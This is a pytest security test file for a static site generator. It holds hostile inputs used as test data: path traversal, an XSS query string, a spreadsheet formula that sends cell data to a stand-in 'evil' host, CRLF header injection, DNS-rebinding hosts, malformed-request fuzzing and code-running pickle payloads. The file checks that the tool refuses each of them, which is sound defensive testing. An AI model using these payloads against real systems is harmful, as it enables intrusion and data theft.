"""Hardening: strict headers built from what the site uses, redirects that cannot escape, safe scripts."""

from __future__ import annotations

import csv
import hashlib
import http.client
import json
import marshal
import os
import pickle
import random
import re
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlencode

import jinja2.bccache
import pytest
from click.testing import CliRunner
from playwright.sync_api import Page
from sitefactory import add_program, edit, make_site, snapshot, write
from test_demo_quality import WATCH_THE_POLICY

from sitegen.cli import main
from sitegen.core.artifact import Artifact
from sitegen.core.errors import OutputError
from sitegen.core.paths import SHIPPED_THEMES
from sitegen.incremental import codec, signing
from sitegen.output import writer
from sitegen.report.files import check_out_dir
from sitegen.report.ingest import ReportError
from sitegen.serve import server as serve
from sitegen.serve.snapshot import file_bytes

REPO_ROOT = Path(__file__).resolve().parent.parent


def build(site: Path) -> str:
    result = CliRunner().invoke(main, ["build", str(site)])
    assert result.exit_code == 0, result.output
    return result.output


def csp(site: Path) -> dict[str, list[str]]:
    text = (site / "public" / "_headers").read_text()
    policy = re.search(r"Content-Security-Policy: (.*)", text)[1]
    return {part.split()[0]: part.split()[1:] for part in policy.split("; ")}


@pytest.fixture
def site(tmp_path: Path) -> Path:
    site = make_site(tmp_path)
    add_program(site)
    return site


def test_headers_carry_a_strict_policy_and_the_security_headers(site: Path) -> None:
    build(site)
    text = (site / "public" / "_headers").read_text()
    policy = csp(site)
    assert policy["default-src"] == ["'self'"] and policy["script-src"] == ["'self'"]
    assert policy["form-action"] == ["'self'"] and policy["frame-ancestors"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert "unsafe-inline" not in text and "unsafe-eval" not in text
    assert "Strict-Transport-Security: max-age=31536000" in text
    assert "X-Content-Type-Options: nosniff" in text
    assert "Referrer-Policy: strict-origin-when-cross-origin" in text
    assert "camera=()" in text and "geolocation=()" in text and "clipboard-write=(self)" in text
    assert "/assets/*\n  Cache-Control: public, max-age=31536000, immutable" in text


def test_form_action_allows_exactly_the_chosen_form_service(site: Path) -> None:
    write(site, "pages/book.md", "---\ntitle: Book\nform: contact\n---\nText.\n")
    edit(
        site,
        "site.yaml",
        "brand:",
        "forms:\n  provider: formspree\n"
        "  endpoints: {contact: abc, appointment: def, enroll: ghi, refer: jkl, feedback: mno}\nbrand:",
    )
    build(site)
    assert csp(site)["form-action"] == ["'self'", "https://formspree.io"]


def test_enabling_analytics_allows_exactly_that_origin_and_nothing_else(site: Path) -> None:
    build(site)
    before = csp(site)
    edit(
        site,
        "site.yaml",
        "brand:",
        "analytics:\n  script: https://plausible.io/js/script.js\n  domain: example.com\nbrand:",
    )
    build(site)
    after = csp(site)
    assert after["script-src"] == ["'self'", "https://plausible.io"]
    assert after["connect-src"] == ["'self'", "https://plausible.io"]
    assert {k: v for k, v in after.items() if k not in ("script-src", "connect-src")} == {
        k: v for k, v in before.items() if k not in ("script-src", "connect-src")
    }
    assert 'src="https://plausible.io/js/script.js"' in (site / "public" / "about" / "index.html").read_text()
    assert (
        "plausible" not in (site / "public" / "refer" / "index.html").read_text()
    )  # never on referral pages
    assert "plausible" not in (site / "public" / "welcome" / "index.html").read_text()


def test_aliases_redirect_old_addresses_with_301(site: Path) -> None:
    edit(site, "pages/about.md", "menu: header", "menu: header\naliases: [/about-us/, /team-and-story]")
    build(site)
    rules = (site / "public" / "_redirects").read_text()
    assert "/about-us/  /about/  301" in rules and "/team-and-story  /about/  301" in rules


@pytest.mark.parametrize(
    ("alias", "message"),
    [
        ("/../../etc/passwd", 'aliases: "/../../etc/passwd" is not a plain address on this site'),
        ("https://evil.example/", 'aliases: "https://evil.example/" is not a plain address on this site'),
        ("/services/", "aliases: /services/ is the address of"),
    ],
)
def test_unsafe_or_taken_aliases_are_refused(site: Path, alias: str, message: str) -> None:
    write(site, "services/peel.md", "---\ntitle: Peel\nsummary: A peel.\n---\nText.\n")
    build(site)
    before = snapshot(site / "public")
    edit(site, "pages/about.md", "menu: header", f'menu: header\naliases: ["{alias}"]')
    if alias == "/services/":
        edit(site, "pages/about.md", '["/services/"]', '["/services/peel/"]')
        message = "aliases: /services/peel/ is the address of content/services/peel.md"
    result = CliRunner().invoke(main, ["build", str(site)])
    assert (
        result.exit_code == 1
        and "content/pages/about.md:5: error[" in result.output
        and message in result.output
    )
    assert snapshot(site / "public") == before


def test_allow_html_keeps_raw_html_and_warns(site: Path) -> None:
    edit(site, "pages/about.md", "Write about", '<div class="note" data-x="1">Raw</div>\n\nWrite about')
    build(site)
    assert '<div class="note">Raw</div>' in (site / "public" / "about" / "index.html").read_text()
    edit(site, "site.yaml", "brand:", "allow_html: true\nbrand:")
    output = build(site)
    assert "warning[SG307] allow_html is on" in output
    assert '<div class="note" data-x="1">Raw</div>' in (site / "public" / "about" / "index.html").read_text()


# -- the demo under its own policy, in the browser ---------------------------------------------------


@pytest.fixture(scope="module")
def demo_server() -> Iterator[serve.DevServer]:
    running = serve.start(REPO_ROOT, "127.0.0.1", 0)
    yield running
    serve.stop(running)


def test_every_demo_page_is_served_under_the_policy(demo_server: serve.DevServer) -> None:
    """The dev server sends the site's Content-Security-Policy with every page. What a browser refuses under
    that policy is checked on every page of the demo served as its host serves it (test_demo_quality.py's
    desktop sweep), and on the dev server, with the script it adds to each page, below."""
    files = demo_server.site.snapshot.files
    assert "_headers" in files
    policy = re.search(r"Content-Security-Policy: (.+)", file_bytes(files["_headers"]).decode("utf-8"))
    urls = sorted("/" + p.removesuffix("index.html") for p in files if p.endswith(".html"))
    assert policy and len(urls) > 90
    host, port = demo_server.url.removeprefix("http://").split(":")
    unguarded = []
    for url in urls:
        connection = http.client.HTTPConnection(host, int(port), timeout=10)
        try:
            connection.request("HEAD", url)
            response = connection.getresponse()
            response.read()
            if response.getheader("Content-Security-Policy") != policy[1].strip():
                unguarded.append(f"{url}: {response.status} {response.getheader('Content-Security-Policy')}")
        finally:
            connection.close()
    assert unguarded == []


@pytest.mark.browser
def test_scripts_still_work_under_the_policy(demo_server: serve.DevServer, page: Page) -> None:
    refused: list[str] = []
    page.on("console", lambda m: refused.append(f"{page.url}: {m.text}") if m.type == "error" else None)
    page.on("pageerror", lambda e: refused.append(f"{page.url}: {e}"))
    page.add_init_script(WATCH_THE_POLICY)
    page.goto(demo_server.url + "/book/")
    page.get_by_role("button", name="Request my consultation").click()
    assert page.get_by_role("alert").text_content().startswith("Please correct")
    refused += page.evaluate("window.__violations || []")
    page.goto(demo_server.url + "/welcome/?ref=K7M2QX9P")
    assert page.locator("#appointment-referral_code").input_value() == "K7M2QX9P"
    assert page.locator("[data-invite-code]").text_content() == "K7M2-QX9P"
    refused += page.evaluate("window.__violations || []")
    assert refused == []  # the dev server's own script (reload on change) runs under the policy too


@pytest.mark.browser
def test_welcome_page_shows_hostile_codes_as_nothing(demo_server: serve.DevServer, page: Page) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(demo_server.url + "/welcome/?ref=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
    assert page.locator("[data-invited]").is_hidden() and dialogs == []
    assert page.locator("img[src=x]").count() == 0


# -- Nothing lost: the output folder, the site lock, a killed build ---------------------------------------


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "sitegen", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
        timeout=120,
    )


def test_a_folder_sitegen_did_not_fill_is_never_emptied_without_force(site: Path, tmp_path: Path) -> None:
    folder = tmp_path / "documents"
    folder.mkdir()
    (folder / "thesis.docx").write_bytes(b"years of work")
    result = CliRunner().invoke(main, ["build", str(site), "--out", str(folder)])
    assert result.exit_code != 0
    assert "did not write" in result.output and "--force" in result.output
    assert (folder / "thesis.docx").read_bytes() == b"years of work"
    result = CliRunner().invoke(main, ["build", str(site), "--out", str(folder), "--force"])
    assert result.exit_code == 0, result.output
    assert not (folder / "thesis.docx").exists() and (folder / "index.html").is_file()
    assert (folder / ".sitegen-output").is_file()
    # once taken over, it is sitegen's: later builds need no --force, and a stray file is cleaned away
    (folder / "stray.txt").write_text("x")
    assert CliRunner().invoke(main, ["build", str(site), "--out", str(folder)]).exit_code == 0
    assert not (folder / "stray.txt").exists()


def test_a_public_folder_from_before_the_marker_is_still_the_sites_own(site: Path) -> None:
    build(site)
    (site / "public" / ".sitegen-output").unlink()  # as an older sitegen left it
    edit(site, "posts/welcome.md", "\n---\n", "\n---\nA new first line.\n")
    output = build(site)
    assert "1 rendered" in output or "rendered" in output
    assert (site / "public" / ".sitegen-output").is_file()
    (site / "public" / ".sitegen-output").unlink()
    (site / "public" / "not-ours.txt").write_text("x")  # a file the manifest never recorded
    result = CliRunner().invoke(main, ["build", str(site)])
    assert result.exit_code != 0 and "did not write" in result.output


def test_a_second_build_of_the_same_site_waits_for_the_first_and_says_who_holds_it(site: Path) -> None:
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from pathlib import Path; from sitegen.output.lock import site_lock\n"
            "with site_lock(Path(sys.argv[1]), 'build'):\n"
            "    print('locked', flush=True); time.sleep(3)\n",
            str(site),
        ],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )
    assert holder.stdout.readline().strip() == "locked"
    started = time.monotonic()
    result = run_cli("build", str(site))
    waited = time.monotonic() - started
    holder.wait(timeout=30)
    holder.stdout.close()
    assert result.returncode == 0, result.stderr
    assert f"process {holder.pid}" in result.stderr and "waiting for `sitegen build`" in result.stderr
    assert waited > 1.5  # it did wait for the holder (which slept 3 s after locking)


KILL_DURING_MOVES = """
import os, signal, sys
from sitegen.output import writer
from sitegen.cli import main
from sitegen.core.artifact import Artifact
from sitegen.core.errors import OutputError
from sitegen.core.paths import SHIPPED_THEMES
from sitegen.incremental import codec, signing
from sitegen.report.ingest import ReportError
from sitegen.report.files import check_out_dir
public = os.path.abspath(sys.argv[1]) + os.sep
real, count = os.replace, [0]
def replace(src, dst, *args, **kwargs):
    if str(dst).startswith(public):
        count[0] += 1
        if count[0] == int(sys.argv[2]):
            os.kill(os.getpid(), signal.SIGKILL)  # kill -9 in the middle of the move phase
    return real(src, dst, *args, **kwargs)
os.replace = replace
main(["build", sys.argv[3]])
"""


@pytest.mark.parametrize("moves_before_kill", [2, 4])
def test_a_build_killed_while_moving_files_leaves_the_old_site_or_the_new_never_a_mix(
    site: Path, moves_before_kill: int
) -> None:
    build(site)
    public = site / "public"
    old = snapshot(public)
    edit(site, "site.yaml", "phone: (555) 555-0100", "phone: (555) 555-0199")  # every page changes
    killed = subprocess.run(
        [sys.executable, "-c", KILL_DURING_MOVES, str(public), str(moves_before_kill), str(site)],
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
        capture_output=True,
        timeout=120,
    )
    assert killed.returncode == -9
    assert snapshot(public) != old  # half moved: the attack this guards against
    assert list(site.glob(".public.*"))  # the journal and the staging folders were left behind
    writer.check_output_dir(public, site)  # what every build does first
    assert snapshot(public) == old
    assert not list(site.glob(".public.*"))  # nothing left beside the folder
    build(site)
    new = snapshot(public)
    assert new != old and all("555-0199" in (public / p).read_text() for p in new if p.endswith(".html"))


def test_a_symlink_in_a_theme_is_never_published(site: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.env"
    secret.write_text("DATABASE_PASSWORD=hunter2")
    theme = site / "themes" / "evil"
    (theme / "static").mkdir(parents=True)
    (theme / "theme.yaml").write_text("name: evil\nextends: default\n")
    (theme / "static" / "leak.txt").symlink_to(secret)
    (site / "content" / "site.yaml").write_text(
        (site / "content" / "site.yaml").read_text() + "theme: evil\n"
    )
    result = CliRunner().invoke(main, ["build", str(site)])
    assert result.exit_code != 0
    assert "leak.txt" in result.output and "symbolic link" in result.output
    assert not (site / "public").exists()


def test_the_writer_refuses_a_copied_file_that_leads_outside_the_site(site: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.env"
    secret.write_text("DATABASE_PASSWORD=hunter2")
    (site / "content" / "static").mkdir(parents=True, exist_ok=True)
    link = site / "content" / "static" / "env.txt"
    link.symlink_to(secret)
    out = tmp_path / "out"
    writer.check_output_dir(out, site)
    with pytest.raises(OutputError, match="symbolic link"):
        writer.write([Artifact("env.txt", copy_from=link)], out)
    with pytest.raises(OutputError, match="outside the site"):
        writer.write([Artifact("env.txt", copy_from=secret)], out)
    assert not out.exists()


# -- Nothing leaked: the dev server's form service and its request parsing --------------------------------


@pytest.fixture
def dev(site: Path) -> Iterator[serve.DevServer]:
    running = serve.start(site, "127.0.0.1", 0)
    yield running
    serve.stop(running)


def raw(server: serve.DevServer, request: bytes, timeout: float = 5) -> bytes:
    """Send bytes as they are and read the whole reply (the server closes, or the timeout ends it)."""
    with socket.create_connection(server.server_address[:2], timeout=timeout) as sock:
        reply = b""
        try:
            sock.sendall(request)
            sock.shutdown(socket.SHUT_WR)
        except OSError:
            # the server stopped reading (a request too large) or already answered and closed (ENOTCONN
            # on a loaded machine, where its answer can come before our shutdown): its answer is still there
            pass
        try:
            while chunk := sock.recv(65536):
                reply += chunk
        except TimeoutError:
            reply += b"<timeout>"
        except ConnectionResetError:
            pass  # closed by the server with some of the request unread
        return reply


def test_hundreds_of_concurrent_form_posts_are_all_kept(site: Path, dev: serve.DevServer) -> None:
    host, port = dev.server_address[:2]

    def post(number: int) -> int:
        connection = http.client.HTTPConnection(host, port, timeout=30)
        body = urlencode({"form-name": "contact", "name": f"Patient {number}", "note": f"n{number}"})
        connection.request("POST", "/", body, {"Content-Type": "application/x-www-form-urlencoded"})
        status = connection.getresponse().status
        connection.close()
        return status

    with ThreadPoolExecutor(max_workers=10) as pool:
        assert set(pool.map(post, range(300))) == {303}
    with (site / ".sitegen" / "submissions" / "contact.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["name"] for row in rows) == sorted(f"Patient {n}" for n in range(300))
    assert len({row["id"] for row in rows}) == 300


def test_form_cells_that_a_spreadsheet_would_run_are_kept_as_text(site: Path, dev: serve.DevServer) -> None:
    host, port = dev.server_address[:2]
    connection = http.client.HTTPConnection(host, port, timeout=10)
    fields = {"form-name": "contact", "name": '=HYPERLINK("http://evil/?"&A1,"x")', "a": "+1", "b": "@SUM(1)"}
    connection.request("POST", "/", urlencode(fields), {"Content-Type": "application/x-www-form-urlencoded"})
    assert connection.getresponse().status == 303
    connection.close()
    with (site / ".sitegen" / "submissions" / "contact.csv").open(newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["name"] == "'" + fields["name"] and row["a"] == "'+1" and row["b"] == "'@SUM(1)"


def test_no_header_can_be_injected_through_an_address(dev: serve.DevServer) -> None:
    host = b"Host: 127.0.0.1\r\n"
    reply = raw(
        dev, b"GET /r/x%0d%0aSet-Cookie:%20pwned=1 HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n"
    )
    head = reply.split(b"\r\n\r\n")[0]
    assert head.startswith(b"HTTP/1.1 302") and b"\r\nSet-Cookie" not in head
    body = b"form-name=contact&name=x"
    reply = raw(
        dev,
        b"POST /thanks%0d%0aSet-Cookie:%20pwned=1 HTTP/1.1\r\n" + host + b"Connection: close\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s"
        % (len(body), body),
    )
    head = reply.split(b"\r\n\r\n")[0]
    assert head.startswith(b"HTTP/1.1 303") and b"\r\nSet-Cookie" not in head


def test_a_non_latin_1_address_gets_an_answer(dev: serve.DevServer) -> None:
    for path in ("/caf%C3%A9", "/%E2%98%83/", "/r/%E2%98%83"):
        reply = raw(dev, f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode())
        assert reply.startswith((b"HTTP/1.1 404", b"HTTP/1.1 301", b"HTTP/1.1 302")), (path, reply[:80])


def test_a_page_of_another_site_cannot_read_the_preview_through_dns_rebinding(dev: serve.DevServer) -> None:
    port = dev.server_address[1]
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "[::1]", "LOCALHOST"):
        reply = raw(dev, f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        assert reply.startswith(b"HTTP/1.1 200"), host
    for host in (f"attacker.example:{port}", "127.0.0.1.attacker.example", ""):
        reply = raw(dev, f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        assert reply.startswith(b"HTTP/1.1 421"), host


@pytest.mark.parametrize("length", ["-5", "abc", "99999999999", "10, 10"])
def test_a_bad_content_length_is_refused_at_once(dev: serve.DevServer, length: str) -> None:
    started = time.monotonic()
    reply = raw(
        dev,
        f"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {length}\r\n\r\nform-name=contact&name=x".encode(),
    )
    assert reply.startswith((b"HTTP/1.1 400", b"HTTP/1.1 413")), reply[:60]
    assert reply.count(b"HTTP/1.1 ") == 1  # the body was not taken for a second request
    assert time.monotonic() - started < 3


def _malformed(rng: random.Random) -> bytes:
    """One request a broken client, a scanner or an attacker might send (or plain noise)."""
    host = b"Host: localhost\r\n"
    junk = bytes(rng.getrandbits(8) for _ in range(rng.randrange(1, 400)))
    body = b"form-name=contact&name=" + junk.replace(b"&", b"")
    choices = [
        junk,
        b"GET " + junk + b" HTTP/1.1\r\n" + host + b"\r\n",
        b"GET /" + b"a" * rng.randrange(60_000, 90_000) + b" HTTP/1.1\r\n" + host + b"\r\n",
        rng.choice(
            [b"G\x00T", b"GET" * 500, b"\xff\xfe", b"TRACE", b"CONNECT", b"PUT", b"DELETE", b"OPTIONS"]
        )
        + b" / HTTP/1.1\r\n"
        + host
        + b"\r\n",
        b"GET / "
        + rng.choice([b"HTTP/9.9", b"HTTP/1.1x", b"", b"HTTP/0.9", b"SPDY/3"])
        + b"\r\n"
        + host
        + b"\r\n",
        b"GET / HTTP/1.1\r\n" + host + b"".join(b"X-%d: %d\r\n" % (n, n) for n in range(300)) + b"\r\n",
        b"GET / HTTP/1.1\r\n" + host + b"X-Long: " + b"b" * 100_000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\n"
        + host
        + rng.choice([b"No colon\r\n", b"Bad : x\r\n", b" folded\r\n", junk + b"\r\n"])
        + b"\r\n",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: attacker.example\r\n\r\n",
        b"GET http://attacker.example/ HTTP/1.1\r\n" + host + b"\r\n",
        rng.choice(
            [b"GET /%zz", b"GET /%", b"GET /%00/", b"GET /..%2f..%2fetc%2fpasswd", b"GET /\xc3\xa9\xff"]
        )
        + b" HTTP/1.1\r\n"
        + host
        + b"\r\n",
        b"POST / HTTP/1.1\r\n" + host + b"Content-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(body) + rng.randrange(0, 50), body),
        b"POST / HTTP/1.1\r\n" + host + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n" + junk + b"\r\n0\r\n\r\n",
        b"POST / HTTP/1.1\r\n" + host + b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\n",
        b"POST /admin/api/v1 HTTP/1.1\r\n" + host + b"Content-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(junk), junk),
        b"POST /admin/api/v1 HTTP/1.1\r\n"
        + host
        + b'Content-Length: 47\r\n\r\n{"action":"persistEntry","params":{"x":[[[]]]}}',
    ]
    return rng.choice(choices)


def test_a_soak_of_malformed_requests_leaves_the_dev_server_serving(
    site: Path, dev: serve.DevServer, capfd: pytest.CaptureFixture[str]
) -> None:
    """Hundreds of malformed requests, a fixed seed, a bounded run: every connection is answered or
    closed by the server itself, nothing is logged as a crash, and the site is still served."""
    rng = random.Random(24)
    requests = [_malformed(rng) for _ in range(400)]
    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=16) as pool:
        replies = list(pool.map(lambda request: raw(dev, request, timeout=30), requests))
    slow = [socket.create_connection(dev.server_address[:2], timeout=30) for _ in range(5)]
    for connection in slow:  # a client that starts a request and never finishes it
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
    for connection in slow:
        assert connection.recv(100) == b""  # closed by the server after its timeout, not by us
        connection.close()
    assert time.monotonic() - started < 120
    assert not [r for r in replies if r.endswith(b"<timeout>")]
    statuses = {r[9:12] for r in replies if r.startswith(b"HTTP/1.")}
    assert statuses and not statuses & {b"500", b"502", b"503"}, statuses
    home = raw(dev, b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    assert home.startswith(b"HTTP/1.1 200") and b"</html>" in home
    logged = capfd.readouterr().err
    assert "Traceback" not in logged and "Exception occurred" not in logged, logged[-2000:]


def test_the_watcher_survives_a_rebuild_that_fails_in_any_way(site: Path, dev: serve.DevServer) -> None:
    site_obj = dev.site
    calls = []
    real = site_obj._build

    def failing(*args: object) -> object:
        calls.append(1)
        if len(calls) == 1:
            raise RecursionError("maximum recursion depth exceeded")
        return real(*args)

    site_obj._build = failing  # the first rebuild hits a bug; the watcher must still see the next save
    edit(site, "posts/welcome.md", "\n---\n", "\n---\nFirst save.\n")
    deadline = time.monotonic() + 20
    while not calls and time.monotonic() < deadline:
        time.sleep(0.1)
    number = site_obj.snapshot.number
    edit(site, "posts/welcome.md", "First save.", "Second save, seen.")
    while site_obj.snapshot.number == number and time.monotonic() < deadline:
        time.sleep(0.1)
    assert len(calls) >= 2
    page = site_obj.snapshot.files["posts/welcome/index.html"].content
    assert b"Second save, seen." in page


@pytest.mark.parametrize(
    "inside", ["themes/default/static/reports", "templates/reports", "promotion-kit", "elsewhere/reports"]
)
def test_the_report_never_goes_into_a_folder_that_is_published_or_a_source(
    site: Path, tmp_path: Path, inside: str
) -> None:
    build(site)
    CliRunner().invoke(main, ["build", str(site), "--out", str(tmp_path / "elsewhere")])
    out = (tmp_path if inside.startswith("elsewhere") else site) / inside
    with pytest.raises(ReportError, match="refusing to write the report into"):
        check_out_dir(out, site)
    with pytest.raises(ReportError, match="shipped themes"):
        check_out_dir(SHIPPED_THEMES / "default" / "static" / "reports", site)
    assert check_out_dir(site / "reports", site) is not None  # the default stays allowed


# -- A restored or shared cache never runs code ------------------------------------------------------------


class _Payload:
    """Unpickled, it creates a folder: proof that the bytes ran."""

    def __init__(self, proof: Path) -> None:
        self.proof = proof

    def __reduce__(self) -> tuple:
        return (os.mkdir, (str(self.proof),))


def test_compiled_templates_planted_in_the_cache_are_never_loaded(site: Path, tmp_path: Path) -> None:
    build(site)
    proof = tmp_path / "pwned"
    compiled = list((site / ".sitegen" / "cache" / "templates").rglob("*.code"))
    assert compiled
    planted = compile(f"import os\nos.mkdir({str(proof)!r})", "<planted>", "exec")
    for number, file in enumerate(compiled):  # Jinja's own format (a pickle first), or ours unsigned
        jinja_format = jinja2.bccache.bc_magic + pickle.dumps(_Payload(proof))
        ours = b"0" * 64 + b"\n" + file.read_bytes()[65:].split(b"\n")[0] + b"\n" + marshal.dumps(planted)
        file.write_bytes(jinja_format if number % 2 else ours)
    edit(site, "posts/welcome.md", "\n---\n", "\n---\nA new first line.\n")
    build(site)
    assert not proof.exists()
    assert "A new first line." in (site / "public" / "posts" / "welcome" / "index.html").read_text()


def test_the_cache_holds_data_only_even_when_its_signature_is_forged(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Someone who knows the key (a leaked CI secret) can sign any file; the files still never run code:
    a pickle, or a value naming a class outside sitegen, is refused and the cache rebuilt."""
    monkeypatch.setenv("SITEGEN_CACHE_KEY", "leaked")
    monkeypatch.setattr(signing, "_key", None)
    build(site)
    cache = site / ".sitegen" / "cache"
    proof = tmp_path / "pwned"
    payloads = [pickle.dumps(_Payload(proof)), marshal.dumps((1, "os:mkdir", {"path": str(proof)}))]
    for payload in payloads:
        manifest = json.loads((cache / "manifest.json").read_text())
        name = sorted(manifest["shards"])[0]
        (cache / "documents" / f"{name}.data").write_bytes(payload)
        manifest["shards"][name] = hashlib.sha256(payload).hexdigest()[:32]
        data = json.dumps(manifest, separators=(",", ":")).encode()
        (cache / "manifest.json").write_bytes(data)
        (cache / "manifest.json.hmac").write_bytes(signing.sign(data))
        edit(site, "posts/welcome.md", "\n---\n", "\n---\nOne more line.\n")
        output = CliRunner().invoke(main, ["build", str(site)]).output
        assert "ignored the build cache" in output and "a documents file cannot be read" in output
        assert not proof.exists()
    with pytest.raises(ValueError, match="the cache names os:mkdir"):
        codec.decode(marshal.dumps((1, "os:mkdir", {})))


def test_a_cache_whose_manifest_is_not_signed_here_is_ignored_with_a_notice(site: Path) -> None:
    build(site)
    cache = site / ".sitegen" / "cache"
    manifest = json.loads((cache / "manifest.json").read_text())
    manifest["inputs"] = {}  # what someone who can write the folder, but not the key, might change
    (cache / "manifest.json").write_text(json.dumps(manifest))
    output = CliRunner().invoke(main, ["build", str(site)]).output
    assert "not signed with this machine's key" in output and "Pages: 0 reused" not in output
    assert "rendered" in output
